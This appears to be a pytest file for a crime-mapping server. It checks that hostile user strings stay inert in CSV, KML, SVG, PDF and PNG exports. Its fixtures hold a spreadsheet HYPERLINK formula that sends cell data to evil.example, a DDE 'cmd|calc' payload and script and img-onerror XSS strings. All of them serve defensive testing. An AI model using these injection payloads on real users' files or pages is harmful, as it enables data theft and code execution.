"""Files made from strings users supply stay inert: CSV cells cannot become spreadsheet formulas, KML text cannot
become markup, and a `$` in a title or name is printed, not parsed as mathtext, in PNG, SVG and PDF. Each output is
read back: with the csv module, an XML parser and pdftotext (poppler-utils)."""

from __future__ import annotations

import csv
import html
import io
import json
import shutil
import subprocess
import uuid
import xml.etree.ElementTree as ET

import pytest

from server.domain import accounts, exports, figure_pack
from server.domain.csv_cells import safe_cell
from server.store import patrols as patrol_store
from server.store.db import transaction
from tests.conftest import GEODATA, PASSWORD, bearer

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\tTabbed", "\rCarriage"]
MATH = r"Ward $\notacommand{x}$ costs $5 to $6"  # pairs of dollars with an unknown TeX command: mathtext raises
TAGS = '<script>alert(1)</script> & "quotes" ]]>'
TEAM = f"<b>T</b> & {MATH}"  # at most 80 characters
PATROL = f"</name><b>P</b> {MATH}"  # short enough for the briefing's title line
TOWN_CENTRE = {"type": "Polygon", "coordinates": [[[0.515, 51.270], [0.532, 51.270], [0.532, 51.280],
                                                     [0.515, 51.280], [0.515, 51.270]]]}
SMALL_MAP = {"metric": "all-crime", "period": "2022", "width": "800", "height": "600", "dpi": "72"}
pdftotext = shutil.which("pdftotext")


def hostile_wards() -> bytes:
    """The 2013 wards with formula, mathtext and markup names (and one formula code)."""
    collection = json.loads((GEODATA / "maidstone_wards_2013.geojson").read_bytes())
    names = [*FORMULAS, MATH, TAGS]
    for index, feature in enumerate(collection["features"]):
        if index < len(names):
            feature["properties"]["WD13NM"] = names[index]
    collection["features"][0]["properties"]["WD13CD"] = "=1+1"
    return json.dumps(collection).encode()


@pytest.fixture(scope="module")
def hostile_set(engine, tokens, app) -> str:
    set_id = f"test-hostile-{uuid.uuid4().hex[:8]}"
    form = {"file": (io.BytesIO(hostile_wards()), "wards.geojson"), "id": set_id, "kind": "ward",
            "code_field": "WD13CD", "name_field": "WD13NM", "valid_from": "2013-05-02", "title": f"Hostile {MATH}"}
    response = app.test_client().post("/api/boundary-sets", data=form, headers=bearer(tokens["gis"]))
    assert response.status_code == 201, response.get_json()
    yield set_id
    with transaction(engine) as session:
        from sqlalchemy import text

        session.execute(text("DELETE FROM boundary_sets WHERE id = :id"), {"id": set_id})


# --- CSV ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+44 1622", "'+44 1622"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Allington", "Allington"), ("", ""), ("E05004982", "E05004982"),
    (-12.5, -12.5), (3, 3), (None, None),
])
def test_safe_cell_prefixes_formula_text_and_keeps_numbers(value, expected):
    assert safe_cell(value) == expected


def test_layer_csv_neutralises_formula_names_and_codes_but_keeps_negative_numbers(client, hostile_set):
    response = client.get(f"/api/exports/{hostile_set}.csv?metric=all-crime&period=2022-06&measure=change")
    assert response.status_code == 200, response.get_json(silent=True)
    rows = list(csv.DictReader(io.StringIO(response.data.decode())))
    layer = client.get(f"/api/layers/{hostile_set}?metric=all-crime&period=2022-06&measure=change").get_json()
    stored = sorted(f["properties"]["name"] for f in layer["features"])  # the loader trims leading tabs and CRs
    assert sorted(row["name"] for row in rows) == sorted(f"'{n}" if n[0] in "=+-@" else n for n in stored)
    names = {row["name"] for row in rows}
    assert {f"'{formula}" for formula in FORMULAS[:4]} <= names
    assert TAGS in names and MATH in names
    assert "'=1+1" in {row["code"] for row in rows}
    for row in rows:
        assert row["name"][:1] not in "=+-@\t\r" and row["code"][:1] not in "=+-@\t\r"
    values = [float(row["value"]) for row in rows if row["value"]]
    assert any(v < 0 for v in values), "a change layer has falls: negative numbers stay numbers"


def test_csv_from_a_constructed_layer():
    layer = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [0.5, 51.2]},
         "properties": {"code": "-1", "name": "=cmd()", "value": -4.0, "class": 1, "rank": 2, "color": "#ffffff"}},
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [0.5, 51.2]},
         "properties": {"code": "\tE1", "name": "\r@x", "value": None, "class": None, "rank": None, "color": "#000"}}]}
    rows = list(csv.reader(io.StringIO(exports.to_csv(layer).decode())))
    assert rows == [exports.TABLE_COLUMNS, ["'-1", "'=cmd()", "-4.0", "1", "2", "#ffffff"],
                    ["'\tE1", "'\r@x", "", "", "", "#000"]]


def test_gi_csv_is_quoted_and_neutralised():
    gi = {"features": [{"properties": {"code": "E01", "name": "=Evil, \"quoted\"", "value": -3, "gi_z": -1.5,
                                       "p_value": 0.01, "gi_bin": -2, "label": "+Cold spot, 99%"}}]}
    rows = list(csv.reader(io.StringIO(figure_pack.gi_csv(gi).decode())))
    assert rows[0] == ["code", "name", "crimes", "gi_z", "p_value", "gi_bin", "label"]
    assert rows[1] == ["E01", "'=Evil, \"quoted\"", "-3", "-1.5", "0.01", "-2", "'+Cold spot, 99%"]


# --- static maps: mathtext and markup in titles and area names ------------------------------------------------

def test_svg_map_with_hostile_title_and_names_is_well_formed_and_inert(client, hostile_set):
    query = {**SMALL_MAP, "title": f"{TAGS} {MATH}"}
    response = client.get(f"/api/maps/{hostile_set}.svg", query_string=query)
    assert response.status_code == 200, response.get_json(silent=True)
    root = ET.fromstring(response.data)
    assert not [e for e in root.iter() if e.tag.rsplit("}", 1)[-1].lower() in ("script", "foreignobject")]
    assert not [k for e in root.iter() for k in e.attrib if k.lower().startswith("on")]
    csp = response.headers["Content-Security-Policy"]
    assert "script-src" not in csp and "default-src 'none'" in csp  # an SVG opened on its own runs nothing


@pytest.mark.skipif(pdftotext is None, reason="pdftotext (poppler-utils) is not installed")
def test_pdf_map_prints_dollars_and_markup_literally(client, hostile_set):
    query = {**SMALL_MAP, "title": f"Title {MATH}"}
    response = client.get(f"/api/maps/{hostile_set}.pdf", query_string=query)
    assert response.status_code == 200, response.get_json(silent=True)
    text = pdf_text(response.data)
    assert f"Title {MATH}" in text
    assert f"Hostile {MATH}" in text  # the boundary set title


def test_png_map_with_mathtext_names_renders(client, hostile_set):
    query = {**SMALL_MAP, "title": rf"$\frac{{1}}{{0}}$ {MATH}"}
    response = client.get(f"/api/maps/{hostile_set}.png", query_string=query)
    assert response.status_code == 200 and response.data.startswith(b"\x89PNG")


def pdf_text(data: bytes) -> str:
    result = subprocess.run([pdftotext, "-", "-"], input=data, capture_output=True, check=True)
    return " ".join(result.stdout.decode().split())


# --- patrol exports -------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def officer(engine) -> str:
    username = f"hostile-officer-{uuid.uuid4().hex[:6]}"
    with transaction(engine) as session:
        accounts.create_user(session, username, PASSWORD, "officer")
        patrol_store.set_user_team(session, username, TEAM)
        return accounts.issue_token(session, username, "hostile exports")


@pytest.fixture(scope="module")
def hostile_patrol(app, officer) -> dict:
    body = {"name": PATROL, "geometry": TOWN_CENTRE, "date_from": "2022-11-01",
            "notes": f'<img src=x onerror="alert(1)"> {FORMULAS[0]} {MATH}'}
    response = app.test_client().post("/api/patrol-areas", json=body, headers=bearer(officer))
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def test_kml_text_is_escaped_for_xml_and_for_the_html_of_descriptions(client, officer, hostile_patrol):
    response = client.get(f"/api/patrol-areas/{hostile_patrol['id']}/export.kml", headers=bearer(officer))
    assert response.status_code == 200
    root = ET.fromstring(response.data)  # well-formed despite the markup in the name and notes
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    assert root.find("k:Document/k:name", ns).text == PATROL
    placemark = root.find("k:Document/k:Placemark", ns)
    assert placemark.find("k:name", ns).text == PATROL
    description = placemark.find("k:description", ns).text
    # KML viewers render a description as HTML: the notes must arrive there as text, not as an <img> element
    assert "<img" not in description and "<script" not in description
    assert html.unescape(description).count('<img src=x onerror="alert(1)">') == 1
    assert f"Team: {TEAM}" in html.unescape(description)


@pytest.mark.skipif(pdftotext is None, reason="pdftotext (poppler-utils) is not installed")
def test_briefing_pdf_prints_names_and_notes_literally(client, officer, hostile_patrol, artifacts):
    response = client.get(f"/api/patrol-areas/{hostile_patrol['id']}/export.pdf", headers=bearer(officer))
    assert response.status_code == 200, response.get_json(silent=True)
    (artifacts / "patrol-briefing-hostile.pdf").write_bytes(response.data)
    text = pdf_text(response.data)
    assert PATROL in text  # the title
    assert f"Team {TEAM}" in text
    assert f"Notes: <img src=x onerror=\"alert(1)\"> {FORMULAS[0]} {MATH}" in text
